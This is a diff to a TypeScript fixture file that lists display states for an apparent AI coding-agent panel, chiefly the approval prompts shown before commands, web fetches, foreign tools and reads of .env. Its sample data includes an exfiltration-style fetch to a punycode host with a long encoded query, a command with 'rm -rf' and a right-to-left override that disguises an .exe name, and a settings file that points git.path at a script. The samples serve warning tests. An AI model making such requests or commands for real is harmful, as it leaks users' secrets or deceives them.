@@ -30,7 +30,9 @@ export const idle: PanelState = {
 	chips: [],
 	images: [],
 	changes: { files: 0, added: 0, removed: 0 },
-	editsAllowed: false,
+	mode: 'agent',
+	level: 'ask',
+	canSetMode: true,
 };
 
 export const editApproval: ApprovalView = {
@@ -38,8 +40,8 @@ export const editApproval: ApprovalView = {
 	nonce: 'n-1',
 	title: 'Edit parse.ts?',
 	folder: 'src',
-	reason: 'Edits ask first in this session.',
-	canAllowSession: true,
+	reasons: ['Edits are asked for until you allow them in this session.'],
+	offer: { rule: 'edits of unprotected files', scopes: ['session'] },
 	position: 1,
 	total: 2,
 	detail: {
@@ -86,17 +88,20 @@ export function parse(text: string): Token[] {
 
 See [the documentation](https://example.com/parse).`;
 
-const tool = (id: string, fields: Partial<Extract<Item, { kind: 'tool' }>>): Item => ({
+type ToolItem = Extract<Item, { kind: 'tool' }>;
+
+const toolItem: ToolItem = {
 	kind: 'tool',
-	id,
+	id: '',
 	name: 'read',
 	state: 'done',
 	verb: 'Read',
 	subject: 'src/parse.ts',
 	path: 'src/parse.ts',
 	note: '84 lines',
-	...fields,
-});
+};
+
+const tool = (id: string, fields: Partial<ToolItem>): Item => ({ ...toolItem, id, ...fields });
 
 /** Work of a turn, with every state a row can have. */
 const rows: readonly Item[] = [
@@ -124,7 +129,7 @@ const rows: readonly Item[] = [
 			text: 'The pattern is not a regular expression: unclosed group at 8.\nUse "regex": false to search for the text itself.',
 		},
 	},
-	tool('c6', { state: 'skipped', verb: 'Skipped', subject: '.env', path: '.env', note: 'by you' }),
+	tool('c6', { state: 'denied', verb: 'Denied', subject: '.env', path: '.env', note: 'by you' }),
 	{
 		kind: 'tool',
 		id: 'c7',
@@ -279,6 +284,114 @@ export function faultyForm(sent: Readonly<Record<string, unknown>>): SettingsFor
 	return formWith({ sent, faults: 'faults' in applied ? applied.faults : {} });
 }
 
+/** A row whose subject is no file. */
+function other(id: string, fields: Partial<ToolItem>): Item {
+	const { path: _path, ...row } = toolItem;
+	return { ...row, id, ...fields };
+}
+
+const command = (id: string, fields: Partial<ToolItem> = {}): Item =>
+	other(id, {
+		...{ name: 'bash', state: 'running', verb: 'Running', subject: 'npm test -- --grep parse', note: '' },
+		...fields,
+	});
+
+export const plan = [
+	{ text: 'Read the parser and its tests', status: 'done' },
+	{ text: 'Run the tests and see which of the many cases with tabs and spaces fail', status: 'active' },
+	{ text: 'Mend the loop', status: 'open' },
+	{ text: 'Write down what changed', status: 'open' },
+] as const;
+
+const longCommand = `find . -name '*.test.ts' -newer package.json -print0 | xargs -0 node --test --test-reporter=spec
+rm -rf out/tmp && echo "\\u{202E}gpj.exe" > "out/${'a-very-long-name-without-any-blank-'.repeat(4)}.txt"`;
+
+function asking(approval: Omit<ApprovalView, 'callId' | 'nonce' | 'position' | 'total'>): readonly HostMessage[] {
+	return [
+		snapshot(
+			{ ...idle, activity: 'waiting', approval: { callId: 'a1', nonce: 'n-a', position: 1, total: 1, ...approval } },
+			[user('u1', 'Run the tests.'), command('a1', { state: 'waiting', verb: 'Waiting' })],
+		),
+	];
+}
+
+const offered = { scopes: ['session', 'workspace', 'always'] } as const;
+
+/** Questions of every kind. */
+const approvalStates = {
+	'approval-command': asking({
+		title: 'Run this command?',
+		reasons: ['“npm” can run code of packages.'],
+		detail: { kind: 'command', command: 'npm run build -- --watch=false' },
+		offer: { rule: 'npm run build -- --watch=false', ...offered },
+	}),
+	'approval-long-command': asking({
+		title: 'Run this command?',
+		agent: 'Port the tests of the old parser to the new one, file by file',
+		reasons: [
+			'It holds control or invisible characters, written here as \\u{…}.',
+			'It has more than one line.',
+			'“rm” changes or deletes files.',
+			'Text from outside came in since your last message, so rules do not count for it.',
+		],
+		detail: { kind: 'command', command: longCommand, directory: 'packages/compiler/source/frontend' },
+	}),
+	'approval-fetch': asking({
+		title: 'Fetch from xn--80ak6aa92e.example:8443?',
+		reasons: [
+			'The marked part is long: it can carry away what was read here.',
+			'Port 8443 is unusual for a page.',
+			'Whoever owns the address sees all of it; the model reads what comes back.',
+		],
+		detail: {
+			kind: 'url',
+			parts: [
+				{ text: 'https://', look: 'plain' },
+				{ text: 'xn--80ak6aa92e.example', look: 'host' },
+				{ text: ':8443', look: 'odd' },
+				{ text: '/collect/a', look: 'plain' },
+				{ text: `?d=${'c2VjcmV0'.repeat(40)}`, look: 'odd' },
+			],
+		},
+	}),
+	'approval-foreign': asking({
+		title: 'Use create_issue of github?',
+		reasons: ['This tool belongs to a server or another extension: nobody here knows what it does.'],
+		detail: {
+			kind: 'foreign',
+			server: 'github',
+			tool: 'create_issue',
+			input: '{\n  "title": "Parser drops every second word",\n  "labels": ["bug"]\n}',
+		},
+		offer: { rule: 'tools of github', ...offered },
+	}),
+	'approval-several': asking({
+		title: 'Allow 3 calls?',
+		reasons: ['Your answer counts for all of them.'],
+		items: [
+			{
+				id: 'i1',
+				title: 'Edit parse.ts?',
+				folder: 'src',
+				reasons: ['Edits are asked for until you allow them in this session.'],
+				...(editApproval.detail && { detail: editApproval.detail }),
+			},
+			{
+				id: 'i2',
+				title: 'Run this command?',
+				reasons: ['“rm” changes or deletes files.', '“>” reads or writes a file.'],
+				detail: { kind: 'command', command: 'rm -f out/log && echo done > out/state' },
+			},
+			{
+				id: 'i3',
+				title: 'Read .env?',
+				reasons: ['Files of this kind hold keys or passwords. The model reads what is in it.'],
+				detail: { kind: 'text', text: '.env' },
+			},
+		],
+	}),
+};
+
 /** Every state of the panel, as the messages that bring the page there. */
 export const panelStates: Readonly<Record<string, readonly HostMessage[]>> = {
 	'empty-no-key': [
@@ -332,8 +445,7 @@ export const panelStates: Readonly<Record<string, readonly HostMessage[]>> = {
 					nonce: 'n-2',
 					title: 'Create settings.json?',
 					folder: '.vscode',
-					reason: 'Asked because .vscode/settings.json can change what the editor runs.',
-					canAllowSession: false,
+					reasons: ['This file can change what the editor or your tools run, so it is always asked for.'],
 					position: 1,
 					total: 1,
 					detail: { kind: 'text', text: '{\n\t"git.path": "./x.sh"\n}' },
@@ -429,19 +541,91 @@ export const panelStates: Readonly<Record<string, readonly HostMessage[]>> = {
 			}),
 		},
 	],
+	...approvalStates,
+	commands: [
+		snapshot({ ...idle, activity: 'running', level: 'edits', plan }, [
+			user('u1', 'Run the tests and mend what fails.'),
+			other('c1', {
+				name: 'bash',
+				verb: 'Ran',
+				subject: 'git status --short',
+				note: 'exit code 0, 0.1 s',
+				detail: { kind: 'command', command: 'git status --short', output: ' M src/parse.ts' },
+			}),
+			command('c2', {
+				state: 'done',
+				verb: 'Ran',
+				note: 'exit code 1, 2.3 s',
+				allowedBy: ['npm test …'],
+				detail: {
+					kind: 'command',
+					command: 'npm test -- --grep parse',
+					directory: 'packages/compiler',
+					output:
+						'  12 passing (40ms)\n  1 failing\n\n  1) parse\n       reads one token per turn:\n     AssertionError: 1 == 2',
+				},
+			}),
+			other('b1', { name: 'batch', verb: 'Running', state: 'running', subject: '4 calls', note: '' }),
+			tool('b1-1', { parentId: 'b1' }),
+			tool('b1-2', { parentId: 'b1', state: 'failed', verb: 'Failed', note: '' }),
+			tool('b1-3', { parentId: 'b1', state: 'running', verb: 'Reading', subject: longPath, path: longPath, note: '' }),
+			tool('b1-4', { parentId: 'b1', state: 'queued', verb: 'Next', note: '' }),
+			other('t1', {
+				...{ name: 'task', state: 'running', verb: 'Delegating', note: '7 steps, $0.031' },
+				subject: 'Port the tests of the old parser to the new one',
+				delegateId: 's9',
+			}),
+			other('w1', {
+				name: 'webfetch',
+				verb: 'Fetched',
+				subject: 'https://example.com/parsers?of=tokens',
+				note: '12 kB',
+			}),
+			other('f1', { name: 'useTool', verb: 'Used', subject: 'everything: echo', note: '140 characters' }),
+			command('c9', {
+				live: {
+					isCut: true,
+					openLine: '[####------] 40 %',
+					text: Array.from(
+						{ length: 12 },
+						(_, at) => `  ✓ case ${at} of a rather long name that has to wrap in a narrow panel\n`,
+					).join(''),
+				},
+			}),
+		]),
+	],
+	'plan-open': [
+		snapshot({ ...idle, activity: 'running', plan, changes: { files: 1, added: 6, removed: 2 } }, [
+			user('u1', 'Port the parser.'),
+		]),
+	],
+	everything: [snapshot({ ...idle, level: 'everything' }, [user('u1', 'Go on.')])],
+	// A menu stays open until the focus leaves it: what comes next takes it, or cannot have one.
+	'mode-menu': [snapshot({ ...idle, mode: 'ask' }, [user('u1', 'How does it work?')])],
+	'level-menu': [snapshot({ ...idle, level: 'edits' }, [user('u1', 'Go on.')])],
 	'read-only': [
-		snapshot({ ...idle, isReadOnly: true }, [
+		snapshot({ ...idle, isReadOnly: true, canSetMode: false }, [
 			user('u1', 'Hello'),
 			{ kind: 'text', id: 't1', text: 'Hello.', state: 'done' },
 		]),
 	],
-	untrusted: [snapshot({ ...idle, isTrusted: false, editsAllowed: true }, [user('u1', 'Hello')])],
+	untrusted: [snapshot({ ...idle, isTrusted: false, canSetMode: false, mode: 'ask' }, [user('u1', 'Hello')])],
+};
+
+/** What comes by itself after a time. */
+export const awaitedParts: Readonly<Record<string, readonly string[]>> = {
+	commands: ['.live'],
 };
 
 /** What is opened in a state before it is looked at: places to click. */
 export const openedParts: Readonly<Record<string, readonly string[]>> = {
 	receipts: ['.notice .link[aria-expanded]', '.receipt-label'],
 	form: ['.form-fold'],
+	commands: ['.entry[data-entry="c2"] .row-label'],
+	'plan-open': ['.plan-label'],
+	'approval-command': ['.split-more'],
+	'mode-menu': ['.picker.mode'],
+	'level-menu': ['.picker.level'],
 };
 
 function idleWithoutSession(): PanelState {
